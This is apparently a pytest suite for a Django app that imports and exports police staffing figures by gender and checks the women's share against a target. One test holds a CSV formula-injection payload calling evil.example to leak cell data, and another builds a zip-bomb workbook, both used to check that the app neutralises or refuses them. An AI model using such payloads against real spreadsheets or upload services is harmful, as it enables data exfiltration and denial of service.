"""Women in the police: the yearly figures by region, rank and level, entered by hand or imported from a
spreadsheet after a dry run (rows to create, update, leave; errors per row and cell; all or nothing),
exported and imported back; the women's share against the plan's target; partners get no small count."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import Workbook

from field_offices.models import Region
from mission.api.services import token_issue
from mission.dashboards.filters import read_filters
from mission.imports.models import PendingImport
from public_safety.models import GenderTarget, PoliceStaffFigure
from public_safety.panels import women_in_police_panel
from tests.api.conftest import bearer, staff_key
from tests.conftest import client_for
from tests.public_safety.contract import figure_made

pytestmark = pytest.mark.django_db

HEADER = "year,region,rank,level,women,men,source"
IMPORT = reverse("public_safety:policestafffigure_import")
LIST = reverse("public_safety:policestafffigure_list")


def _csv(*lines: str, name: str = "figures.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, ("\n".join([HEADER, *lines]) + "\n").encode(), content_type="text/csv")


def _dry_run(client, upload):
    response = client.post(IMPORT, {"file": upload})
    assert response.status_code == 200
    return response


def _apply(client, response):
    plan = response.context["plan"]
    pending = response.context["pending"]
    return client.post(IMPORT, {"pending": pending.pk, "digest": plan.digest()})


@pytest.fixture
def head(public_safety_actors):
    return public_safety_actors["department_head"]


@pytest.fixture
def existing(head):
    return figure_made(head)  # 2024, GJI, sergeant, first line: 31 women, 214 men


def test_the_dry_run_says_what_each_row_would_do_and_writes_nothing(head, existing):
    client = client_for(head)
    response = _dry_run(
        client,
        _csv(
            "2024,GJI,sergeant,first_line,33,212,Letter of 2025",  # update
            "2024,GJI,officer,none,140,700,",  # create
            "2024,MIT,sergeant,first_line,abc,10,",  # refused: women is no number
            "2024,XXX,captain,middle,1,2,",  # refused: no such region
            "2024,GJI,officer,none,1,1,",  # refused: the same key as row 3
        ),
    )
    plan = response.context["plan"]
    actions = {row.line: row.action for row in plan.rows}
    assert actions == {2: "update", 3: "create", 4: "error", 5: "error", 6: "error"}
    rows = {row.line: row for row in plan.rows}
    assert ("Women", "31", "33") in rows[2].changes
    assert ("Source", "Kosovo Police, annual staffing letter", "Letter of 2025") in rows[2].changes
    assert set(rows[4].errors) == {"women"}
    assert set(rows[5].errors) == {"region"}
    assert "Row 3 has the same values" in rows[6].errors[""][0]
    assert not plan.applicable
    page = response.content.decode()
    assert "Download the refused rows" in page
    assert "Apply the import" not in page
    existing.refresh_from_db()
    assert (existing.women, PoliceStaffFigure.objects.count()) == (31, 1)  # nothing written


def test_the_refused_rows_download_with_their_errors(head, existing):
    client = client_for(head)
    response = _dry_run(client, _csv("2024,GJI,sergeant,first_line,33,212,", "2024,MIT,general,none,-1,10,"))
    errors = client.get(response.context["errors_url"])
    assert errors.status_code == 200
    rows = list(csv.reader(io.StringIO(errors.content.decode("utf-8-sig"))))
    assert rows[0] == ["row", "year", "region", "rank", "level", "women", "men", "source", "errors"]
    assert len(rows) == 2
    assert rows[1][:7] == ["3", "2024", "MIT", "general", "none", "'-1", "10"]  # made harmless
    assert rows[1][-1].startswith("women: ")


def test_an_applied_import_writes_every_row_with_its_reason(head, existing):
    client = client_for(head)
    response = _dry_run(
        client, _csv("2024,GJI,sergeant,first_line,33,212,", "2024,GJI,officer,none,140,700,", name="kp-2024.csv")
    )
    assert response.context["plan"].applicable
    done = _apply(client, response)
    assert done.status_code == 302
    assert done.url == LIST
    existing.refresh_from_db()
    assert (existing.women, existing.men, existing.version) == (33, 212, 2)
    assert PoliceStaffFigure.objects.count() == 2
    latest = existing.history.first()
    assert latest.history_change_reason == "import of kp-2024.csv"
    assert latest.history_user == head
    assert not PendingImport.objects.exists()  # forgotten once applied
    messages = [str(m) for m in client.get(LIST).context["messages"]]
    assert messages == ["Imported kp-2024.csv: 1 created, 1 updated, 0 unchanged."]


def test_an_import_whose_data_changed_since_the_dry_run_is_shown_again(head, existing):
    client = client_for(head)
    response = _dry_run(client, _csv("2024,GJI,sergeant,first_line,33,212,"))
    existing.women = 33
    existing.men = 212
    existing.source = ""
    existing.save()  # someone entered the same figures meanwhile: the row is now unchanged
    again = _apply(client, response)
    assert again.status_code == 200
    assert [row.action for row in again.context["plan"].rows] == ["unchanged"]
    assert "The data changed since your dry run" in again.content.decode()
    assert PoliceStaffFigure.objects.get().version == 1


def test_a_tampered_digest_applies_nothing(head, existing):
    client = client_for(head)
    response = _dry_run(client, _csv("2024,GJI,sergeant,first_line,99,1,"))
    pending = response.context["pending"]
    client.post(IMPORT, {"pending": pending.pk, "digest": "0" * 64})
    existing.refresh_from_db()
    assert existing.women == 31


def test_another_maintainer_cannot_apply_or_read_someone_elses_dry_run(head, existing, public_safety_actors):
    response = _dry_run(client_for(head), _csv("2024,GJI,sergeant,first_line,99,1,"))
    plan, pending = response.context["plan"], response.context["pending"]
    other = client_for(public_safety_actors["supervisor"])
    assert other.post(IMPORT, {"pending": pending.pk, "digest": plan.digest()}).status_code == 404
    errors_url = reverse("public_safety:policestafffigure_import_errors", args=[pending.pk])
    assert other.get(errors_url).status_code == 404
    existing.refresh_from_db()
    assert existing.women == 31


def test_an_xlsx_file_imports_like_a_csv(head):
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER.split(","))
    sheet.append([2023, "PRI", "captain", "middle", 12.0, 88, None])
    data = io.BytesIO()
    book.save(data)
    upload = SimpleUploadedFile("figures.xlsx", data.getvalue())
    client = client_for(head)
    response = _dry_run(client, upload)
    assert [row.action for row in response.context["plan"].rows] == ["create"]
    _apply(client, response)
    figure = PoliceStaffFigure.objects.get()
    assert (figure.year, figure.region.code, figure.women, figure.men) == (2023, "PRI", 12, 88)


@pytest.mark.parametrize(
    ("upload", "message"),
    [
        (SimpleUploadedFile("figures.csv", b""), "The submitted file is empty."),
        (SimpleUploadedFile("figures.csv", b"\n ,, \n"), "This file is empty."),
        (SimpleUploadedFile("figures.csv", b"\x89PNG\r\n\x1a\n\x00\x00"), "neither a CSV file nor an Excel"),
        (SimpleUploadedFile("figures.xlsx", b"PK\x03\x04broken"), "could not be read as an Excel workbook"),
        (SimpleUploadedFile("figures.csv", "year;region\n2024;GJ\xc3".encode("latin-1")), "not in UTF-8"),
        (SimpleUploadedFile("figures.csv", (HEADER + "\n").encode()), "a header but no rows"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_with_its_reason(head, upload, message):
    response = client_for(head).post(IMPORT, {"file": upload})
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not PendingImport.objects.exists()


def test_too_many_rows_or_bytes_are_refused(head, settings):
    settings.IMPORT_MAX_ROWS = 2
    client = client_for(head)
    lines = [f"2024,GJI,officer,none,{n},1," for n in range(3)]
    assert "more than 2 rows" in client.post(IMPORT, {"file": _csv(*lines)}).content.decode()
    settings.IMPORT_MAX_BYTES = 50
    assert "larger than" in client.post(IMPORT, {"file": _csv(*lines[:1] * 3)}).content.decode()


def test_missing_and_unknown_columns_are_said(head):
    upload = SimpleUploadedFile("figures.csv", b"year,region,rank,level,women,colour\n2024,GJI,officer,none,1,red\n")
    response = _dry_run(client_for(head), upload)
    problems = response.context["plan"].problems
    assert problems[0] == "These columns are missing: men, source."
    assert problems[1].startswith("These columns are not known: colour.")


def test_an_export_edited_and_imported_back_changes_only_the_edited_row(head):
    figure_made(head)
    figure_made(head, rank="officer", level="none", women=150, men=800)
    figure_made(head, year=2023, region=Region.objects.get(code="MIT"), women=20, men=200)
    client = client_for(head)
    exported = client.get(reverse("public_safety:policestafffigure_export")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[0] == HEADER.split(",")
    edited = [row[:] for row in rows]
    target = next(i for i, row in enumerate(edited) if row[2] == "officer")
    edited[target][4] = "155"
    text = io.StringIO()
    csv.writer(text).writerows(edited)
    before = {f.pk: (f.version, f.updated_at) for f in PoliceStaffFigure.objects.all()}
    response = _dry_run(client, SimpleUploadedFile("edited.csv", text.getvalue().encode()))
    assert sorted(row.action for row in response.context["plan"].rows) == ["unchanged", "unchanged", "update"]
    _apply(client, response)
    after = {f.pk: (f.version, f.updated_at) for f in PoliceStaffFigure.objects.all()}
    changed = [pk for pk in before if before[pk] != after[pk]]
    assert changed == [PoliceStaffFigure.objects.get(rank="officer").pk]
    assert PoliceStaffFigure.objects.get(rank="officer").women == 155


def test_a_row_by_hand_and_a_duplicate_key_refused_on_its_fields(head, existing):
    client = client_for(head)
    data = {"year": 2024, "region": existing.region_id, "rank": "sergeant", "level": "first_line", "women": 1}
    response = client.post(reverse("public_safety:policestafffigure_create"), {**data, "men": 2, "source": ""})
    assert response.status_code == 200
    assert "already exists" in response.content.decode()
    response = client.post(
        reverse("public_safety:policestafffigure_create"), {**data, "rank": "major", "men": 2, "source": ""}
    )
    assert response.status_code == 302
    assert PoliceStaffFigure.objects.filter(rank="major").exists()


def test_an_edit_based_on_an_older_version_is_refused(head, existing):
    client = client_for(head)
    url = reverse("public_safety:policestafffigure_edit", args=[existing.pk])
    data = {"year": 2024, "region": existing.region_id, "rank": "sergeant", "level": "first_line", "source": ""}
    assert client.post(url, {**data, "women": 40, "men": 200, "version": 1}).status_code == 302
    refused = client.post(url, {**data, "women": 50, "men": 200, "version": 1})
    assert refused.status_code == 200
    assert "after you opened it" in refused.content.decode()
    existing.refresh_from_db()
    assert (existing.women, existing.version) == (40, 2)


def test_deleting_asks_first(head, existing):
    client = client_for(head)
    url = reverse("public_safety:policestafffigure_delete", args=[existing.pk])
    page = client.get(url)
    assert "Delete these figures?" in page.content.decode()
    assert PoliceStaffFigure.objects.exists()
    assert client.post(url).status_code == 302
    assert not PoliceStaffFigure.objects.exists()
    assert existing.history.filter(history_type="-").get().history_user == head


def test_the_share_of_women_against_the_target(head, rf):
    gji, mit = Region.objects.get(code="GJI"), Region.objects.get(code="MIT")
    figure_made(head, year=2023, region=gji, rank="officer", level="none", women=10, men=90)
    figure_made(head, year=2023, region=mit, rank="officer", level="none", women=30, men=70)
    figure_made(head, year=2024, region=gji, rank="officer", level="none", women=15, men=85)
    figure_made(head, year=2024, region=gji, rank="major", level="senior", women=1, men=9)
    GenderTarget.objects.create(year=2024, share=Decimal("18.5"), plan="Plan 2024–2027")
    request = rf.get("/")
    request.user = head
    _form, filters = read_filters(request)
    figures, charts = women_in_police_panel(head, filters)
    assert figures[0].value == pytest.approx(16 / 110)  # 2024: (15 + 1) of 110
    assert figures[0].previous == pytest.approx(40 / 200)  # 2023, both regions
    by_year = {row[0]: row[1:] for row in charts[0].rows}
    assert by_year[2023] == [pytest.approx(0.2), None]
    assert by_year[2024] == [pytest.approx(16 / 110), pytest.approx(0.185)]
    by_rank = {row[0]: row[1:] for row in charts[1].rows}
    assert by_rank["Major"] == [None, pytest.approx(0.1)]
    by_level = {row[0]: row[1:] for row in charts[2].rows}
    assert by_level["Not in management"] == [pytest.approx(0.2), pytest.approx(0.15)]
    # Gjilan's alone.
    request = rf.get(f"/?region={gji.code}")
    request.user = head
    _form, filters = read_filters(request)
    figures, _charts = women_in_police_panel(head, filters)
    assert figures[0].previous == pytest.approx(0.1)


def test_partners_get_no_count_under_the_threshold(head, partner, public_safety_actors, administrator, settings):
    settings.API_SMALL_CELL_THRESHOLD = 5
    figure_made(head, women=3, men=214)
    _token, partner_key = token_issue(actor=administrator, user=partner, name="NGO", scopes=["women_in_police"])
    rows = bearer(partner_key).get("/api/v1/women-in-police/").json()["results"]
    assert [(r["region"], r["rank"], r["women"], r["men"], r["suppressed"]) for r in rows] == [
        ("GJI", "sergeant", None, 214, True)
    ]
    assert "source" not in rows[0]  # internal
    staff = bearer(staff_key(public_safety_actors["supervisor"], administrator))
    (row,) = staff.get("/api/v1/women-in-police/").json()["results"]
    assert (row["women"], row["suppressed"], row["source"]) == (3, False, "Kosovo Police, annual staffing letter")


def test_the_import_page_is_the_keepers(public_safety_actors):
    for role, status in (("monitor", 403), ("supervisor", 200), ("department_head", 200), ("management", 403)):
        assert client_for(public_safety_actors[role]).get(IMPORT).status_code == status, role


def test_the_list_filters_and_costs_the_same_queries_at_two_sizes(head, existing):
    client = client_for(head)

    def count() -> int:
        client.get(LIST)
        with CaptureQueriesContext(connection) as queries:
            assert client.get(LIST).status_code == 200
        return len(queries)

    few = count()
    for year in range(2010, 2020):
        figure_made(head, year=year)
    assert count() == few
    rows = client.get(LIST, {"year": 2015}).context["rows"]
    assert [row.year for row, _cells, _writable in rows] == [2015]
    rows = client.get(LIST, {"region": Region.objects.get(code="MIT").pk}).context["rows"]
    assert rows == []


# --- What a second review found ---------------------------------------------------------------------
def _plan_of(client, *lines: str, name: str = "figures.csv"):
    return _dry_run(client, _csv(*lines, name=name)).context["plan"]


def test_blank_rows_between_rows_lose_none_of_them(head, settings):
    settings.IMPORT_MAX_ROWS = 4  # four rows, each followed by a blank line: all four are read
    lines = "".join(f"{year},GJI,officer,none,1,1,\n\n" for year in range(2020, 2024))
    upload = SimpleUploadedFile("f.csv", f"{HEADER}\n{lines}".encode())
    plan = _dry_run(client_for(head), upload).context["plan"]
    assert [row.line for row in plan.rows] == [2, 4, 6, 8]


def test_a_quoted_cell_far_into_the_file_comes_back_as_it_was(head):
    for year in range(2000, 2020):
        for rank in ("officer", "sergeant", "lieutenant", "captain", "major", "colonel"):
            figure_made(head, year=year, rank=rank, level="none", source="Annual letter of the Kosovo Police")
    figure_made(head, year=2024, rank="general", level="senior", source='Letter "KP-12" of May')
    client = client_for(head)
    exported = client.get(reverse("public_safety:policestafffigure_export")).content
    assert len(exported) > 4096  # the quote is past what a sniffer reads
    plan = _dry_run(client, SimpleUploadedFile("same.csv", exported)).context["plan"]
    assert {row.action for row in plan.rows} == {"unchanged"}


def test_a_formula_is_exported_harmless_and_imported_back_as_it_was(head):
    figure_made(head, source='=HYPERLINK("http://evil.example/?"&A1,"click")')
    client = client_for(head)
    exported = client.get(reverse("public_safety:policestafffigure_export")).content.decode("utf-8-sig")
    assert "'=HYPERLINK" in exported
    plan = _dry_run(client, SimpleUploadedFile("same.csv", exported.encode())).context["plan"]
    assert [row.action for row in plan.rows] == ["unchanged"]
    response = _dry_run(client, _csv("2024,GJI,sergeant,first_line,=1+1,2,"))
    errors = client.get(response.context["errors_url"]).content.decode("utf-8-sig")
    assert ",'=1+1," in errors


def test_a_long_file_name_is_kept_short_in_the_history(head, existing):
    client = client_for(head)
    name = "Kosovo Police - staffing by rank, region and management level 2024 (final, corrected v3, signed).csv"
    response = _dry_run(client, _csv("2024,GJI,sergeant,first_line,35,210,", name=name))
    assert _apply(client, response).status_code == 302
    reason = existing.history.first().history_change_reason
    assert reason.startswith("import of Kosovo Police")
    assert len(reason) <= 100


def test_the_same_key_written_twice_is_refused_by_its_value(head):
    plan = _plan_of(client_for(head), "2024,GJI,officer,none,1,1,", "02024,GJI,officer,none,2,2,")
    assert [row.action for row in plan.rows] == ["create", "error"]


def test_a_number_with_a_thousands_separator_is_refused(head, existing):
    (row,) = _plan_of(client_for(head), "2024,GJI,sergeant,first_line,31,1.000,").rows
    assert row.action == "error"
    assert "digits alone" in row.errors["men"][0]


def test_a_regional_supervisor_keeps_their_regions_figures_only(public_safety_actors, head):
    supervisor = public_safety_actors["supervisor"]  # Gjilan's
    theirs = figure_made(head, region=Region.objects.get(code="PRI"))
    client = client_for(supervisor)
    assert client.get(reverse("public_safety:policestafffigure_edit", args=[theirs.pk])).status_code == 404
    assert client.post(reverse("public_safety:policestafffigure_delete", args=[theirs.pk])).status_code == 404
    rows = client.get(LIST).context["rows"]
    assert [writable for row, _cells, writable in rows if row.pk == theirs.pk] == [False]
    plan = _plan_of(client, "2024,GJI,officer,none,1,9,", "2024,PRI,officer,none,1,9,")
    assert [row.action for row in plan.rows] == ["create", "error"]
    assert plan.rows[1].errors == {"region": ["You keep the figures of your own region only."]}
    theirs.refresh_from_db()
    assert theirs.women == 31


def test_staff_of_another_department_read_no_figures_in_the_api(head, public_safety_actors, administrator):
    figure_made(head)
    outsider = bearer(staff_key(public_safety_actors["other_department_monitor"], administrator))
    response = outsider.get("/api/v1/women-in-police/")
    assert response.status_code in (200, 403)
    assert response.status_code == 403 or response.json()["results"] == []
    insider = bearer(staff_key(public_safety_actors["monitor"], administrator))
    assert len(insider.get("/api/v1/women-in-police/").json()["results"]) == 1


def _xlsx_bytes(**members: bytes) -> bytes:
    import zipfile

    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return data.getvalue()


def test_a_zip_bomb_or_a_broken_workbook_is_refused_without_an_error_page(head, settings):
    settings.IMPORT_MAX_BYTES = 10_000
    client = client_for(head)
    bomb = _xlsx_bytes(xl__sharedStrings_dot_xml=b" " * 500_000)
    response = client.post(IMPORT, {"file": SimpleUploadedFile("bomb.xlsx", bomb)})
    assert response.status_code == 200
    assert "unpacks to too much data" in response.content.decode()
    book = Workbook()
    book.active.append(HEADER.split(","))
    data = io.BytesIO()
    book.save(data)
    import zipfile

    broken = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data.getvalue())) as source, zipfile.ZipFile(broken, "w") as target:
        for member in source.infolist():
            content = source.read(member.filename)
            target.writestr(
                member, b"<worksheet><sheetData><row" if member.filename.endswith("sheet1.xml") else content
            )
    response = client.post(IMPORT, {"file": SimpleUploadedFile("broken.xlsx", broken.getvalue())})
    assert response.status_code == 200
    assert "could not be read as an Excel workbook" in response.content.decode()


def test_a_sheet_padded_to_a_million_rows_is_refused_quickly(head):
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER.split(","))
    sheet.append([2024, "GJI", "officer", "none", 1, 1, ""])
    sheet.cell(row=1_048_576, column=1, value="")  # an empty cell at the bottom
    sheet.cell(row=1_048_575, column=2, value=" ")
    data = io.BytesIO()
    book.save(data)
    response = client_for(head).post(IMPORT, {"file": SimpleUploadedFile("padded.xlsx", data.getvalue())})
    assert response.status_code == 200
    assert "empty rows in a row" in response.content.decode()


def test_a_dry_run_costs_the_same_queries_for_ten_rows_and_forty(head):
    client = client_for(head)

    def queries(n: int) -> int:
        lines = [f"{2000 + i},GJI,officer,none,{i},1," for i in range(n)]
        with CaptureQueriesContext(connection) as captured:
            _dry_run(client, _csv(*lines))
        return len(captured)

    for year in range(2000, 2040):
        figure_made(head, year=year, rank="officer", level="none")
    assert queries(10) == queries(40)


def test_an_old_dry_run_cannot_be_applied(head, existing, settings):
    from django.utils import timezone

    client = client_for(head)
    response = _dry_run(client, _csv("2024,GJI,sergeant,first_line,35,210,"))
    PendingImport.objects.update(
        created_at=timezone.now() - datetime.timedelta(hours=settings.IMPORT_PENDING_HOURS + 1)
    )
    assert _apply(client, response).status_code == 404
    existing.refresh_from_db()
    assert existing.women == 31
